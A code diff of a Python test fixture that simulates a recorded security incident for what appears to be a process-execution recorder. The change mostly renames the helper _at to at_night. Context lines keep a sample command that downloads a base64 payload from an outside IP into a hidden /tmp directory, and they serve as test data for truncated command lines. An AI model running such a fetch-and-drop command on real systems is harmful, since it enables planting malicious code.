@@ -298,7 +298,9 @@ class Incident:
         )  # fmt: skip
         padded = b"\n".join((b"true " + _LONG, b"curl -s http://203.0.113.9/b | base64 -d > /tmp/.x/b"))
         self._cut(script, 770.9, padded, pid=6140, **here)
-        self.gaps.append(Gap(HOST, _at(-11_348.0), _at(-11_345.5), GapReason.RING_FULL, 1184, 0, 33))
+        self.gaps.append(
+            Gap(HOST, at_night(-11_348.0), at_night(-11_345.5), GapReason.RING_FULL, 1184, 0, 33)
+        )
 
     def _cut(self, parent: ExecEvent, at: float, line: bytes, **fields: Any) -> None:  # noqa: ANN401  # any field
         """Adds a shell whose command line is longer than --max-argv: the head and the tail are there."""
@@ -451,7 +453,8 @@ class Incident:
         )  # not UTF-8, and it would clear the reader's screen
 
 
-def _at(seconds: float) -> Nanoseconds:
+def at_night(seconds: float) -> Nanoseconds:
+    """Returns the time so many seconds after 03:00."""
     return Nanoseconds((START + NIGHT) * SECOND + round(seconds * SECOND))
 
 
@@ -460,7 +463,7 @@ def recorded(path: Path) -> Iterator[Store]:
     """Stores the incident. Its recorder still records, until now, as long as the body runs."""
     incident = Incident()
     with Store(path) as store:
-        store.begin_run(Run(boot_id=BOOT_ID, host=HOST, version="0", started_ns=_at(BEGIN - NIGHT - 1)))
+        store.begin_run(Run(boot_id=BOOT_ID, host=HOST, version="0", started_ns=at_night(BEGIN - NIGHT - 1)))
         store.append(incident.events, incident.gaps, incident.exits, seen_ns=clock.wall_ns())
         while store.index():
             pass
